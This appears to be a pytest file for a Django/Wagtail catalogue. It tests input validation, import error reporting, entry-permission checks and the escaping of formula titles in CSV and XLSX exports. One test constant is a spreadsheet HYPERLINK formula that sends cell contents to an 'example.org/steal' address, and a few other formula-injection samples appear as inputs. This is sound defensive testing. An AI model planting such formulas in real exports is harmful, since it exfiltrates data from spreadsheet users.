"""
Bad input from outside gets a clear answer, never a 500 (issue 15, findings 6, 7, 8 and 9):
non-ASCII digits, importer files that are only a byte-order mark or absurdly wide, error pages
that stay small, formulas in exported cells, and reference imports that respect entry permissions.
"""

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.template.loader import render_to_string
from django.urls import reverse
from wagtail.models import Page

from catalogue.io.spreadsheets import safe_cell
from editorial import roles
from editorial.importing import importer
from editorial.importing.importer import run_import
from evidencemap.importing import import_references
from evidencemap.importing import service as reference_service
from tests.editorial.test_import import csv_bytes, intervention
from tests.factories import InterventionPageFactory

# Exports are prepared by the task worker: here the tasks run at once (tests/opendata/test_export_queue.py queues them).
pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("immediate_tasks")]
SUPERSCRIPT_TWO = "²"  # str.isdigit() says yes, int() says no
FORMULA_TITLE = '=HYPERLINK("https://example.org/steal?"&A1,"Click")'


@pytest.mark.parametrize(
    "url",
    [
        f"/evidence-map/references/?intervention={SUPERSCRIPT_TWO}",
        f"/compare/?entry={SUPERSCRIPT_TWO}&entry=1",
        f"/catalogue/?page={SUPERSCRIPT_TWO}",
        f"/api/v1/entries/?page={SUPERSCRIPT_TWO}",
        f"/api/v1/entries/?page_size={SUPERSCRIPT_TWO}",
    ],
)
def test_non_ascii_digits_in_urls_are_a_clear_answer_not_a_500(client, catalogue, url):
    response = client.get(url)
    assert response.status_code in (200, 400, 422), url
    if response.status_code == 200:
        assert "is not a page number" in response.content.decode()


@pytest.mark.parametrize(
    "column, value", [("year", SUPERSCRIPT_TWO), ("sample_size", SUPERSCRIPT_TWO), ("year", "٢٠١٩")]
)
def test_non_ascii_digits_in_a_reference_file_are_a_row_error(column, value):
    row = {"authors": "Author A", "title": "A study", "year": "2019", "sample_size": "10"}
    row[column] = value
    data = ",".join(row) + "\n" + ",".join(row.values()) + "\n"
    report = import_references(data.encode(), "csv")
    assert not report.ok and not report.written
    assert report.problems[0][0] == "Row 2" and value in report.problems[0][1]


@pytest.mark.parametrize("data", [b"\xef\xbb\xbf", b"\xef\xbb\xbf\r\n", b"\xef\xbb\xbf   "])
def test_an_entries_file_holding_only_a_byte_order_mark_is_called_empty(catalogue, data):
    report = run_import(data)
    assert report.file_error.startswith("The file is empty")


def test_an_absurdly_wide_entries_file_is_refused_by_its_header(catalogue):
    header = ",".join(f"column{n}" for n in range(20_000))
    report = run_import((header + "\n" + "x," * 19_999 + "x\n").encode())
    assert "20000 columns" in report.file_error and not report.written


def test_a_repeated_column_is_named_once(catalogue):
    data = b"identifier,type,title,title,summary,summary,summary\n"
    report = run_import(data)
    assert "columns appear more than once: summary, title;" in report.file_error


def test_an_absurdly_wide_reference_file_is_refused_by_its_header():
    header = ",".join(f"column{n}" for n in range(20_000))
    report = import_references((header + "\n").encode(), "csv")
    assert report.problems[0][0] == "File" and "20000 columns" in report.problems[0][1]


def test_the_entries_error_page_lists_the_first_hundred_problems_and_counts_the_rest(catalogue):
    bad_rows = importer.MAX_LISTED_PROBLEMS + 37
    rows = [intervention(f"int-{n}", title="") for n in range(bad_rows)]
    report = run_import(csv_bytes(rows))
    assert len(report.error_rows) == bad_rows
    html = render_to_string("editorial/import_report.html", {"report": report})
    assert html.count('<ul class="error-message">') == importer.MAX_LISTED_PROBLEMS
    assert "37 more rows with problems are not listed here" in html
    assert f"{bad_rows} of {bad_rows} rows have problems" in html


def test_the_reference_error_page_lists_the_first_hundred_problems_and_counts_the_rest(admin_client):
    bad_rows = reference_service.MAX_LISTED_PROBLEMS + 12
    data = "authors,title,year\n" + "".join(f"Author {n},Study {n},twenty\n" for n in range(bad_rows))
    from django.core.files.uploadedfile import SimpleUploadedFile

    response = admin_client.post(
        "/admin/evidence-map/import-references/", {"file": SimpleUploadedFile("refs.csv", data.encode())}
    )
    html = response.content.decode()
    assert response.status_code == 200
    assert f"{bad_rows} problem(s) found" in html
    assert html.count("is not a year between") == reference_service.MAX_LISTED_PROBLEMS
    assert "12 more problems not listed" in html


def _csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_the_review_dates_export_keeps_formula_titles_as_text(admin_client, catalogue):
    import datetime

    from django.utils import timezone

    InterventionPageFactory(
        parent=catalogue, title=FORMULA_TITLE, next_review_due=timezone.localdate() - datetime.timedelta(days=3)
    )
    response = admin_client.get(reverse("editorial:review_dates"), {"export": "csv"})
    body = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
    titles = [row[0] for row in _csv_cells(body)[1:]]
    assert titles == [safe_cell(FORMULA_TITLE)] and titles[0].startswith("'=")

    response = admin_client.get(reverse("editorial:review_dates"), {"export": "xlsx"})
    from openpyxl import load_workbook

    content = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.cell(row=2, column=1).value == safe_cell(FORMULA_TITLE)
    assert sheet.cell(row=2, column=1).data_type == "s"


@pytest.mark.parametrize("title", [FORMULA_TITLE, "\t=1+1", " @SUM(A1)", "-2+3"])
def test_the_open_data_export_keeps_formula_titles_as_text(client, catalogue, title):
    InterventionPageFactory(parent=catalogue, title=title)
    response = client.get("/catalogue/export.csv")
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body.lstrip("\ufeff"))))
    assert [row["title"] for row in rows] == [safe_cell(title)]


REFERENCE_LINKING = "authors,title,year,design,entries\nAuthor A,A new study of parents,2020,qualitative,{slug}\n"


@pytest.fixture
def linked_entry(catalogue):
    return InterventionPageFactory(parent=catalogue, title="Parents together", slug="parents-together")


def _revisions(page) -> int:
    return page.revisions.count()


def test_the_reference_importer_needs_permission_to_edit_the_entries_it_links(django_user_model, linked_entry):
    outsider = django_user_model.objects.create_user("outsider", password="pw")
    before = _revisions(linked_entry)
    report = import_references(REFERENCE_LINKING.format(slug=linked_entry.slug).encode(), "csv", user=outsider)
    assert not report.ok and not report.written
    assert report.problems == [
        (
            "Row 2",
            "Entry 'parents-together': you do not have permission to edit it, so "
            "this reference cannot be linked to it.",
        )
    ]
    assert _revisions(linked_entry) == before


def test_the_reference_importer_does_not_change_an_entry_someone_else_has_locked(django_user_model, linked_entry):
    contributor = django_user_model.objects.create_user("contributor", password="pw")
    contributor.groups.add(Group.objects.get(name=roles.CONTRIBUTORS))
    other = django_user_model.objects.create_user("other", password="pw")
    Page.objects.filter(pk=linked_entry.pk).update(locked=True, locked_by=other)
    before = _revisions(linked_entry)
    report = import_references(REFERENCE_LINKING.format(slug=linked_entry.slug).encode(), "csv", user=contributor)
    assert not report.ok and report.problems[0][0] == "Row 2"
    assert report.problems[0][1].startswith("Entry 'parents-together' cannot be changed now:")
    assert _revisions(linked_entry) == before

    Page.objects.filter(pk=linked_entry.pk).update(locked=False, locked_by=None)
    report = import_references(REFERENCE_LINKING.format(slug=linked_entry.slug).encode(), "csv", user=contributor)
    assert report.ok and report.written and report.entries_drafted == 1, report.problems
    assert _revisions(linked_entry) == before + 1
